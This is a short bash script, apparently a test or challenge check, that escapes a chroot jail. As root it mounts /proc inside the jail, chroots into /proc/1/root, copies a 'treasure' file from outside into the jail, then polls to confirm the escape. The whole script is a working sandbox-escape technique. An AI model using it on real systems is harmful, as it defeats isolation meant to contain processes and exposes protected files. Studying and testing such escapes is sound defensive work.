#!/usr/bin/env bash
# Root in the jail may mount proc, and there the root of pid 1 is a directory like any other. What follows the inner
# chroot keeps the jail's shell where it is, as the parent; without it the shell would become that process.
set -euo pipefail

# shellcheck disable=SC2016 # the inner shells expand it
setsid sudo chroot jail /bin/sh -c '
  mountpoint -q /proc || mount -t proc proc /proc
  chroot /proc/1/root /bin/sh -c "cat \"\$1/treasure\" >\"\$1/jail/answer\" && exec sleep infinity" sh "$1"
  echo "it ended"
' sh "$PWD" </dev/null >/dev/null 2>&1 &

out() { # somebody with the seat's root whose parent is in the jail
  for pid in $(pgrep --full --exact 'sleep infinity'); do
    parent=$(ps --format ppid= --pid "$pid" | tr -d ' ')
    [ "$(sudo readlink "/proc/$parent/root")" = "$PWD/jail" ] && [ -s jail/answer ] && return
  done
  return 1
}
wait_until out
